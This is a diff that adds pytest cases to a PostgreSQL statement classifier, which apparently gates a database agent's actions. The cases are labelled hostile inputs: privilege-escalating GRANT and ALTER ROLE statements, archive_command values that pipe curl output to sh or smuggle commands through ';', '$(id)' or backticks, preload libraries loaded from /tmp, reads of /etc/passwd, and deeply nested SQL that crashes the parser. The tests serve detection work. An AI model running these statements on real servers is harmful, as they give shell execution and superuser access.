@@ -6,6 +6,7 @@ import pytest
 
 from dbabench.model.trace import StatementInfo
 from dbabench.policy import StatementClass, classify, is_mutating, normalize_relation, parse_pg_bool
+from dbabench.policy.reach import setting_reach
 
 
 def only(sql: str) -> StatementInfo:
@@ -172,14 +173,56 @@ def only(sql: str) -> StatementInfo:
     ("GRANT SELECT ON orders TO analyst", ["privilege"]),
     ("REVOKE ALL ON orders FROM PUBLIC", ["privilege"]),
     ("GRANT SELECT ON orders TO PUBLIC", ["privilege", "privilege_escalation"]),
-    ("GRANT pg_monitor TO agent", ["privilege"]),
-    ("GRANT postgres TO app", ["privilege", "privilege_escalation"]),
-    ("GRANT pg_execute_server_program TO app", ["privilege", "privilege_escalation"]),
-    ("CREATE ROLE analyst LOGIN PASSWORD 'x'", ["privilege"]),
-    ("CREATE ROLE boss SUPERUSER", ["privilege", "privilege_escalation"]),
-    ("ALTER ROLE app WITH SUPERUSER", ["privilege", "privilege_escalation"]),
-    ("ALTER USER app BYPASSRLS", ["privilege", "privilege_escalation"]),
+    # a login, a password, a membership or a SUPERUSER-like attribute: a way past the gate
+    ("GRANT pg_monitor TO agent", ["privilege", "role_escalation"]),
+    ("GRANT pg_monitor TO agent WITH ADMIN OPTION", ["privilege", "role_escalation"]),
+    ("GRANT postgres TO app", ["privilege", "privilege_escalation", "role_escalation"]),
+    ("GRANT pg_execute_server_program TO app",
+     ["privilege", "privilege_escalation", "role_escalation"]),
+    ("REVOKE postgres FROM app", ["privilege"]),
+    ("CREATE ROLE analyst LOGIN PASSWORD 'x'", ["privilege", "role_escalation"]),
+    ("CREATE ROLE x LOGIN PASSWORD 'x' IN ROLE postgres", ["privilege", "role_escalation"]),
+    ("CREATE ROLE x IN ROLE pg_monitor", ["privilege", "role_escalation"]),
+    ("CREATE ROLE x IN GROUP pg_read_all_data", ["privilege", "role_escalation"]),
+    ("CREATE ROLE x IN ROLE CURRENT_USER", ["privilege", "role_escalation"]),
+    ("CREATE ROLE x ADMIN app", ["privilege", "role_escalation"]),
+    ("GRANT app TO x WITH ADMIN OPTION", ["privilege", "role_escalation"]),
+    ("CREATE ROLE x PASSWORD 'x'", ["privilege", "role_escalation"]),
+    ("CREATE USER x", ["privilege", "role_escalation"]),
+    ("CREATE USER x WITH LOGIN", ["privilege", "role_escalation"]),
+    ("CREATE ROLE boss SUPERUSER", ["privilege", "privilege_escalation", "role_escalation"]),
+    ("CREATE ROLE r REPLICATION", ["privilege", "privilege_escalation", "role_escalation"]),
+    ("ALTER ROLE app WITH SUPERUSER", ["privilege", "privilege_escalation", "role_escalation"]),
+    ("ALTER USER app BYPASSRLS", ["privilege", "privilege_escalation", "role_escalation"]),
+    ("ALTER ROLE app CREATEROLE", ["privilege", "privilege_escalation", "role_escalation"]),
+    ("ALTER ROLE app CREATEDB", ["privilege", "privilege_escalation", "role_escalation"]),
+    ("ALTER ROLE app REPLICATION", ["privilege", "privilege_escalation", "role_escalation"]),
+    ("ALTER ROLE analyst LOGIN", ["privilege", "role_escalation"]),
+    ("ALTER ROLE app PASSWORD 'known'", ["privilege", "role_escalation"]),
+    ("ALTER ROLE app ENCRYPTED PASSWORD 'md5abc'", ["privilege", "role_escalation"]),
+    ("ALTER ROLE app PASSWORD NULL", ["privilege", "role_escalation"]),
+    ("ALTER GROUP pg_monitor ADD USER x", ["privilege", "role_escalation"]),
+    ("ALTER GROUP postgres ADD USER x", ["privilege", "role_escalation"]),
+    ("DO $$ BEGIN CREATE ROLE x LOGIN SUPERUSER; END $$", ["role_escalation", "procedural"]),
+    ("CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'GRANT postgres TO app'",
+     ["ddl", "role_escalation"]),
+    # what fixing a role needs, and taking away, are no way in
     ("ALTER ROLE app NOSUPERUSER", ["privilege"]),
+    ("ALTER ROLE app NOLOGIN", ["privilege"]),
+    ("ALTER ROLE app VALID UNTIL 'infinity'", ["privilege"]),
+    ("ALTER ROLE app CONNECTION LIMIT 50", ["privilege"]),
+    ("ALTER ROLE app NOCREATEDB NOREPLICATION NOBYPASSRLS", ["privilege"]),
+    ("ALTER GROUP pg_monitor DROP USER x", ["privilege"]),
+    # a membership among the application's roles gives no login to use it with
+    ("GRANT schema_migrations TO partman", ["privilege"]),
+    ("ALTER GROUP schema_migrations ADD USER partman", ["privilege"]),
+    ("CREATE ROLE x IN ROLE app", ["privilege"]),
+    ("CREATE ROLE x ROLE app", ["privilege"]),
+    ("CREATE ROLE x USER app", ["privilege"]),
+    ("CREATE ROLE readonly NOLOGIN", ["privilege"]),
+    ("CREATE ROLE readonly", ["privilege"]),
+    ("CREATE GROUP readers", ["privilege"]),
+    ("CREATE USER x NOLOGIN", ["privilege"]),
     ("DROP ROLE analyst", ["privilege"]),
     ("ALTER TABLE orders OWNER TO app", ["ddl", "lock_heavy_maintenance"]),
     ("ALTER FUNCTION f() OWNER TO app", ["privilege"]),
@@ -196,6 +239,62 @@ def only(sql: str) -> StatementInfo:
     ("LOAD 'auto_explain'", ["session_setting"]),
     ("LOAD '/tmp/evil.so'", ["session_setting", "program_execution"]),
     ("LOAD '$libdir/plugins/x'", ["session_setting", "program_execution"]),
+    # settings the server runs as a shell command or loads code from, at every layer
+    ("ALTER SYSTEM SET archive_command = 'curl -s x | sh'", ["config_change", "program_execution"]),
+    ("ALTER SYSTEM SET archive_command = 'cp %p /x/%f; id'",
+     ["config_change", "program_execution"]),
+    ("ALTER SYSTEM SET archive_command = 'cp %p $(id)'", ["config_change", "program_execution"]),
+    ("ALTER SYSTEM SET archive_command = 'true && id'", ["config_change", "program_execution"]),
+    ("ALTER SYSTEM SET archive_command = '/tmp/cp %p /x'", ["config_change", "program_execution"]),
+    ("ALTER SYSTEM SET archive_command = 'cp -r /etc %p'", ["config_change", "program_execution"]),
+    ("ALTER SYSTEM SET restore_command = 'cp /x/%f %p'", ["config_change", "program_execution"]),
+    ("ALTER SYSTEM SET archive_cleanup_command = 'pg_archivecleanup /x %r'",
+     ["config_change", "program_execution"]),
+    ("ALTER SYSTEM SET recovery_end_command = 'id'", ["config_change", "program_execution"]),
+    ("ALTER SYSTEM SET ssl_passphrase_command = 'echo x'", ["config_change", "program_execution"]),
+    ("ALTER ROLE app SET archive_command = 'id'", ["config_change", "program_execution"]),
+    ("ALTER DATABASE app SET restore_command = 'id'", ["config_change", "program_execution"]),
+    ("SET archive_command = 'id'", ["session_setting", "program_execution"]),
+    ("SET LOCAL dynamic_library_path = '/tmp'", ["session_setting", "program_execution"]),
+    ("ALTER SYSTEM SET shared_preload_libraries = 'pg_stat_statements, /tmp/evil'",
+     ["config_change", "program_execution"]),
+    ("ALTER ROLE app SET session_preload_libraries = '/tmp/evil.so'",
+     ["config_change", "program_execution"]),
+    ("ALTER DATABASE app SET local_preload_libraries = '$libdir/plugins/x'",
+     ["config_change", "program_execution"]),
+    ("ALTER SYSTEM SET archive_library = '../../tmp/x'", ["config_change", "program_execution"]),
+    ("ALTER DATABASE app SET session_preload_libraries FROM CURRENT",
+     ["config_change", "program_execution"]),
+    ("SELECT set_config('session_preload_libraries', '/tmp/x', false)",
+     ["session_setting", "program_execution"]),
+    ("SELECT set_config('archive_command', current_setting('x'), false)",
+     ["session_setting", "program_execution"]),
+    ("SELECT set_config(name, '/tmp/x', false) FROM pg_settings",
+     ["session_inspection", "session_setting", "dynamic_sql"]),
+    ("DO $$ BEGIN PERFORM set_config('dynamic_library_path', '/tmp', false); END $$",
+     ["program_execution", "procedural"]),
+    ("CREATE FUNCTION f() RETURNS void LANGUAGE sql SET session_preload_libraries = '/tmp/x'"
+     " AS 'SELECT 1'", ["ddl", "program_execution"]),
+    ("CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p", ["ddl", "program_execution"]),
+    ("ALTER SUBSCRIPTION s CONNECTION 'host=y'", ["ddl", "program_execution"]),
+    # their resets, an archive command of the documented form, the server's own libraries
+    ("ALTER SYSTEM RESET archive_command", ["config_change"]),
+    ("ALTER SYSTEM RESET ALL", ["config_change"]),
+    ("ALTER ROLE app RESET session_preload_libraries", ["config_change"]),
+    ("RESET dynamic_library_path", ["session_setting"]),
+    ("SET dynamic_library_path TO DEFAULT", ["session_setting"]),
+    ("ALTER SYSTEM SET archive_command = ''", ["config_change"]),
+    ("ALTER SYSTEM SET archive_command ="
+     " 'test ! -f ../wal_archive/%f && cp %p ../wal_archive/%f'", ["config_change"]),
+    ("ALTER SYSTEM SET archive_command = 'mkdir -p /archive && /bin/cp %p /archive/%f'",
+     ["config_change"]),
+    ("ALTER SYSTEM SET archive_command = '/bin/true'", ["config_change"]),
+    ("ALTER SYSTEM SET shared_preload_libraries = 'pg_stat_statements, auto_explain'",
+     ["config_change"]),
+    ("ALTER ROLE app SET session_preload_libraries = 'auto_explain'", ["config_change"]),
+    ("ALTER SYSTEM SET session_preload_libraries = ''", ["config_change"]),
+    ("SET dynamic_library_path = '$libdir'", ["session_setting"]),
+    ("DROP SUBSCRIPTION s", ["ddl"]),
     # Opaque code
     ("DO $$ BEGIN DELETE FROM orders; END $$", ["procedural"]),
     ("CALL cleanup()", ["procedural"]),
@@ -378,3 +477,84 @@ def test_parse_pg_bool(text: str, value: bool | None) -> None:
 ])
 def test_normalize_relation(name: str, key: str) -> None:
     assert normalize_relation(name) == key
+
+
+# -- deep input: refused as unparseable, never an exception (issue 38) ------------------------
+
+def _nested_bodies(depth: int) -> str:
+    return ("".join(f"CREATE FUNCTION f{i}() RETURNS void LANGUAGE sql AS $b{i}$"
+                    for i in range(depth))
+            + "SELECT 1" + "".join(f"$b{i}$" for i in reversed(range(depth))))
+
+
+@pytest.mark.parametrize("sql", [
+    # the attack: PL/pgSQL's tree is read recursively (RecursionError, a 500)
+    "DO $$ BEGIN " + "IF true THEN " * 400 + "PERFORM 1;" + " END IF;" * 400 + " END $$",
+    # a left-deep chain: libpg_query builds pglast's tree recursively in C (SIGSEGV)
+    "SELECT " + "+".join(["1"] * 100_000),
+    " UNION ALL ".join(["SELECT 1"] * 20_000),
+    # the grammar's own limit
+    "SELECT " + "(" * 100_000 + "1" + ")" * 100_000,
+    # a constant condition read recursively
+    "DELETE FROM orders WHERE " + "NOT " * 5_000 + "true",
+    # bodies inside bodies, each parsed and walked in turn
+    _nested_bodies(200),
+], ids=["do-400-ifs", "chain-100k", "union-20k", "parens-100k", "not-5k", "bodies-200"])
+def test_too_deep_is_unparseable_and_never_raises(sql: str) -> None:
+    [info] = classify(sql)
+    assert info.classes == ["unparseable"] and info.error
+
+
+def test_deep_but_judgeable_sql_is_classified() -> None:
+    # what the parser folds (parentheses) or keeps flat (a long VALUES list) is no depth
+    deep = "SELECT " + "(" * 2_000 + "pg_read_file('/etc/passwd')" + ")" * 2_000
+    assert only(deep).classes == ["read_only", "file_access"]
+    rows = ", ".join(f"({i}, NULL, true, 'x')" for i in range(5_000))
+    assert only(f"INSERT INTO orders VALUES {rows}").classes == ["insert"]
+    assert only("SELECT " + "+".join(["1"] * 2_000)).classes == ["read_only"]
+    assert [i.classes for i in classify(_nested_bodies(20))] == [["ddl"]]
+    # the bound is per statement: many short ones are no deep one
+    assert len(classify("SELECT 1 + 1;" * 5_000)) == 5_000
+
+
+# -- settings that run programs or load code ---------------------------------------------------
+
+@pytest.mark.parametrize(("name", "value", "runs"), [
+    ("archive_command", "test ! -f ../wal_archive/%f && cp %p ../wal_archive/%f", False),
+    ("archive_command", "mkdir -p ../wal_archive && test ! -f ../wal_archive/%f"
+                        " && cp %p ../wal_archive/%f", False),
+    ("archive_command", "/usr/bin/cp %p /archive/%f", False),
+    ("archive_command", "true", False),
+    ("archive_command", "", False),
+    ("archive_command", "cp %p /archive/%f\nid", True),
+    ("archive_command", "cp %p /archive/%f & id", True),
+    ("archive_command", "cp %p /archive/`id`", True),
+    ("archive_command", "cp %p > /archive/%f", True),
+    ("archive_command", "cp /etc/passwd /tmp/x", True),
+    ("archive_command", "cp %p --target-directory=/x", True),
+    ("archive_command", "gzip %p", True),
+    ("archive_command", "test -f %p && rm %p", True),
+    ("archive_command", None, True),
+    ("ARCHIVE_COMMAND", "id", True),
+    ("restore_command", "cp ../wal_archive/%f %p", True),
+    ("restore_command", "", False),
+    ("session_preload_libraries", "auto_explain", False),
+    ("session_preload_libraries", "", False),
+    ("shared_preload_libraries", "pg_stat_statements, auto_explain", False),
+    ("shared_preload_libraries", "pg_stat_statements, $libdir/x", True),
+    ("local_preload_libraries", None, True),
+    ("dynamic_library_path", "$libdir", False),
+    ("dynamic_library_path", "", True),
+    ("dynamic_library_path", "$libdir:/tmp", True),
+    ("work_mem", "64MB", False),
+    ("work_mem", None, False),
+])
+def test_setting_reach(name: str, value: str | None, runs: bool) -> None:
+    expected = {StatementClass.program_execution} if runs else set()
+    assert setting_reach(name, value) == expected
+
+
+def test_setting_reach_holds_the_lexer_settings_too() -> None:
+    assert setting_reach("standard_conforming_strings", "off") == {StatementClass.lexer_setting}
+    assert setting_reach("client_encoding", "UTF-8") == set()
+    assert setting_reach("backslash_quote", None) == {StatementClass.lexer_setting}
